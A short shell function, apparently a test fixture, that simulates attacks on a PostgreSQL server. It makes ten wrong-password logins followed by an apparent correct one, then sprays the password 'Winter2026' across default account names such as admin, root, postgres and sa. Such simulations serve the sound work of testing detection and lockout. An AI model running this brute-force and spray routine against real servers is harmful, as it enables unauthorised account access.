# attack: ten wrong passwords and then the right one; a spray over many names
play() {
    local try name
    for try in {1..10}; do
        PGPASSWORD=guess-$try remote bo -c 'select 1'
    done
    PGAPPNAME=psql remote bo -c 'select current_user'
    for name in admin root postgres oracle test sa; do
        PGPASSWORD=Winter2026 remote "$name" -c 'select 1'
    done
}
